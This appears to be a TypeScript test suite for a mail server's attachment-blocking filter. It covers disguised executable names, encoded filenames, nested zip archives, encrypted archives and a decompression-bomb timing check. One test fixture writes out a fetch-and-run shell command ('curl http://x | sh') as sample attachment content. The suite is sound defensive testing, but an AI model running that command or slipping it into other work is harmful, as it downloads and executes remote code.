/*
 * The attachment policy over literal MIME messages: blocked types found
 * by the Content-Disposition filename or the Content-Type name, RFC 2231
 * and RFC 2047 encoded, disguised with case, trailing dots or a
 * right-to-left override; by content whatever the name (a PE, a script);
 * inside zip archives built in the test, nested ones and attached
 * messages too; the message's own text never counts. Refused with 554
 * 5.7.1 and the file named in the detail and the log only; with action
 * "score", encrypted archives and what could not be checked, only facts
 * for the spam score.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { configSchema } from '../../config/schema.js';
import { createMemoryLogger } from '../../telemetry/logger.js';
import { FilterPipeline } from '../pipeline.js';
import { attachmentFilter } from './filter.js';
import { extensionOf } from './inspect.js';
import { attachmentSettingsFrom, DEFAULT_ATTACHMENT_SETTINGS, type AttachmentSettings } from './settings.js';
import { buildZip } from './test-zip.js';

const b64 = (data: Buffer | string) => Buffer.from(data).toString('base64').replace(/.{76}/g, '$&\r\n');

/** A message: a text part, then each part given as its header lines and body. */
function message(...parts: { header: string[]; body: string }[]): Buffer {
  const lines = ['From: a@sender.example', 'To: bob@example.com', 'Subject: files', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="XX"', '', '--XX', 'Content-Type: text/plain', '', 'See attached.'];
  for (const p of parts) lines.push('--XX', ...p.header, '', p.body);
  lines.push('--XX--', '');
  return Buffer.from(lines.join('\r\n'));
}

/** An attachment part, base64, with the disposition's filename (and the type's name when given). */
function file(filename: string | null, content: Buffer | string, name?: string, type = 'application/octet-stream') {
  const header = [`Content-Type: ${type}${name !== undefined ? `; name="${name}"` : ''}`, 'Content-Transfer-Encoding: base64'];
  if (filename !== null) header.push(filename.includes('*=') ? `Content-Disposition: attachment; ${filename}` : `Content-Disposition: attachment; filename="${filename}"`);
  return { header, body: b64(content) };
}

const PE = (() => {
  const pe = Buffer.alloc(0x200);
  pe.write('MZ', 0, 'latin1');
  pe.writeUInt32LE(0x80, 0x3c);
  pe.write('PE\0\0', 0x80, 'latin1');
  return pe;
})();
const PDF = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n', 'latin1');

async function check(bytes: Buffer, settings: Partial<AttachmentSettings> = {}) {
  const log = createMemoryLogger('debug');
  const pipeline = new FilterPipeline([attachmentFilter({ ...DEFAULT_ATTACHMENT_SETTINGS, ...settings })]);
  const run = pipeline.begin({ client: { ip: '192.0.2.1', helo: 'mx.sender.example', tls: false, user: null, role: 'mx', trusted: false }, sender: 'a@sender.example', queueId: 'Q1', facts: {}, log });
  await run.rcpt({ address: 'bob@example.com', domain: 'example.com' });
  const out = await run.body({ bytes, headerEnd: bytes.indexOf('\r\n\r\n') + 4 });
  run.close();
  const v = out.verdict;
  return { reply: v.action === 'reject' ? v.error.reply : v.action, detail: v.action === 'reject' ? v.error.detail : undefined, found: out.facts.attachments, log: log.lines.join('\n') };
}

const REFUSED = '554 5.7.1 Attachment type not allowed';

describe('attachment policy: refused', () => {
  const cases: [string, Buffer, string][] = [
    ['a filename on the list', message(file('invoice.exe', 'x')), 'file="invoice.exe" reason="extension .exe"'],
    ['in capitals', message(file('INVOICE.EXE', 'x')), 'file="INVOICE.EXE" reason="extension .exe"'],
    ['with trailing dots and spaces, which Windows drops', message(file('run.scr. .', 'x')), 'file="run.scr. ." reason="extension .scr"'],
    ['the Content-Type name only', message(file(null, 'x', 'setup.msi')), 'file="setup.msi" reason="extension .msi"'],
    ['a harmless filename but a blocked name', message(file('doc.pdf', 'x', 'doc.js')), 'file="doc.js" reason="extension .js"'],
    ['RFC 2231 encoded, in two sections', message(file("filename*0*=UTF-8''rechnung%2E; filename*1*=vbs", 'x')), 'file="rechnung.vbs" reason="extension .vbs"'],
    ['RFC 2047 encoded', message(file('=?UTF-8?B?Zm90w7Yuc2Ny?=', 'x')), 'file="fotö.scr" reason="extension .scr"'],
    ['a right-to-left override hiding .exe as .pdf', message(file("filename*=UTF-8''invoice%E2%80%AEfdp.exe", 'x')), 'file="invoice?fdp.exe" reason="extension .exe"'],
    ['a PE under a PDF\'s name', message(file('report.pdf', PE)), 'file="report.pdf" reason="content: Windows executable"'],
    ['a script under a text name', message(file('notes.txt', '#!/bin/sh\ncurl http://x | sh\n', undefined, 'text/plain')), 'file="notes.txt" reason="content: script (#!)"'],
    ['an unnamed program', message({ header: ['Content-Type: application/octet-stream', 'Content-Transfer-Encoding: base64'], body: b64(PE) }), 'file="(unnamed application/octet-stream)" reason="content: Windows executable"'],
    ['a blocked name in a zip', message(file('files.zip', buildZip([{ name: 'readme.txt', data: Buffer.from('hi') }, { name: 'bin/payload.exe', data: PE }]))), 'file="files.zip/bin/payload.exe" reason="extension .exe"'],
    ['an ELF in a zip under a harmless name', message(file('photos.zip', buildZip([{ name: 'photo.jpg', data: Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1') }]))), 'file="photos.zip/photo.jpg" reason="content: ELF executable"'],
    ['a zip named otherwise', message(file('scan.pdf', buildZip([{ name: 'scan.js', data: Buffer.from('WScript.Shell') }]))), 'file="scan.pdf/scan.js" reason="extension .js"'],
    ['a zip in a zip in a zip', message(file('a.zip', buildZip([{ name: 'b.zip', data: buildZip([{ name: 'c.zip', data: buildZip([{ name: 'd.lnk', data: Buffer.from('x') }]) }]) }]))), 'file="a.zip/b.zip/c.zip/d.lnk" reason="extension .lnk"'],
    ['a forwarded message, base64 encoded', message({ header: ['Content-Type: message/rfc822', 'Content-Transfer-Encoding: base64'], body: b64(message(file('inner.bat', 'x')).toString('latin1')) }), 'file="inner.bat" reason="extension .bat"'],
    ['a forwarded message, as it is', message({ header: ['Content-Type: message/rfc822'], body: message(file('inner.hta', 'x')).toString('latin1') }), 'file="inner.hta" reason="extension .hta"'],
  ];
  for (const [what, bytes, detail] of cases) {
    it(what, async () => {
      const r = await check(bytes);
      assert.equal(r.reply, REFUSED);
      assert.equal(r.detail, detail);
      assert.match(r.log, /"attachment refused" file=/);
    });
  }
});

describe('attachment policy: passed', () => {
  const cases: [string, Buffer, { name: string; reason: string }[]][] = [
    ['a PDF', message(file('report.pdf', PDF)), []],
    ['a zip of documents', message(file('docs.zip', buildZip([{ name: 'a.pdf', data: PDF }, { name: 'b.txt', data: Buffer.from('hello') }]))), []],
    ['a script pasted as the message\'s own text', Buffer.from('From: a@sender.example\r\nSubject: my script\r\n\r\n#!/bin/sh\r\necho hello\r\n'), []],
    ['a name without an extension', message(file('README', 'x')), []],
    ['an extension off the list', message(file('archive.tar.gz', 'x')), []],
    ['an encrypted zip: only for the spam score', message(file('secret.zip', buildZip([{ name: 'secret.doc', data: Buffer.from('x'), encrypted: true }]))), [{ name: 'secret.zip', reason: 'encrypted archive' }]],
    ['a damaged zip: only for the spam score', message(file('broken.zip', 'PK\x03\x04 and then nothing')), [{ name: 'broken.zip', reason: 'unreadable zip archive (no end of central directory)' }]],
    ['zips nested four deep: the fourth not opened', message(file('1.zip', buildZip([{ name: '2.zip', data: buildZip([{ name: '3.zip', data: buildZip([{ name: '4.zip', data: buildZip([{ name: 'x.exe', data: PE }]) }]) }]) }]))), [{ name: '1.zip/2.zip/3.zip/4.zip', reason: 'zip archives nested more than 3 deep, not looked into' }]],
  ];
  for (const [what, bytes, found] of cases) {
    it(what, async () => {
      const r = await check(bytes);
      assert.equal(r.reply, 'continue', r.detail);
      assert.deepEqual(r.found, found);
    });
  }

  it('a deflate bomb in a zip costs its head only', async () => {
    const started = Date.now();
    const r = await check(message(file('big.zip', buildZip([{ name: 'zeros.bin', data: Buffer.alloc(64 * 1024 * 1024) }]))));
    assert.equal(r.reply, 'continue');
    assert.ok(Date.now() - started < 2000, `${Date.now() - started} ms`);
  });
});

describe('attachment policy: settings', () => {
  const exeInZip = message(file('files.zip', buildZip([{ name: 'payload.exe', data: PE }])));

  it('action "score": nothing refused, everything found goes to the spam score', async () => {
    const r = await check(exeInZip, { action: 'score' });
    assert.equal(r.reply, 'continue');
    assert.deepEqual(r.found, [{ name: 'files.zip/payload.exe', reason: 'extension .exe' }, { name: 'files.zip/payload.exe', reason: 'content: Windows executable' }]);
  });

  it('block_encrypted refuses encrypted archives', async () => {
    const r = await check(message(file('secret.zip', buildZip([{ name: 'a.doc', data: Buffer.from('x'), encrypted: true }]))), { blockEncrypted: true });
    assert.equal(r.reply, REFUSED);
    assert.equal(r.detail, 'file="secret.zip" reason="encrypted archive"');
  });

  it('scan_archives off: the zip\'s members are not looked at', async () => {
    assert.equal((await check(exeInZip, { scanArchives: false })).reply, 'continue');
  });

  it('the operator\'s list replaces the default one', async () => {
    assert.equal((await check(message(file('a.exe', 'x')), { blocked: ['docm'] })).reply, 'continue');
    assert.equal((await check(message(file('a.DOCM', 'x')), { blocked: ['docm'] })).reply, REFUSED);
  });

  it('reads [attachments] from the configuration', () => {
    const config = configSchema.parse({ attachments: { blocked: ['.EXE', 'js'], action: 'score', scan_archives: false, block_encrypted: true } });
    assert.deepEqual(attachmentSettingsFrom(config.attachments), { blocked: ['exe', 'js'], action: 'score', scanArchives: false, blockEncrypted: true, roles: ['mx', 'lmtp'] });
    const defaults = configSchema.parse({}).attachments;
    assert.equal(defaults.enabled, true);
    assert.ok(defaults.blocked.includes('exe') && defaults.blocked.includes('iso') && !defaults.blocked.includes('zip'));
    assert.throws(() => configSchema.parse({ attachments: { blocked: ['a b'] } }), /file name extension/);
  });
});

describe('file name extensions', () => {
  const cases: [string, string | null][] = [
    ['a.exe', 'exe'], ['A.EXE', 'exe'], ['a.tar.gz', 'gz'], ['dir/sub\\x.bat', 'bat'], ['run.exe. ', 'exe'],
    ['invoice\u202efdp.exe', 'exe'], ['no-extension', null], ['trailing.', null], ['.hidden', 'hidden'], ['a.ex\u200be', 'exe'],
  ];
  for (const [name, ext] of cases) it(JSON.stringify(name), () => assert.equal(extensionOf(name), ext));
});
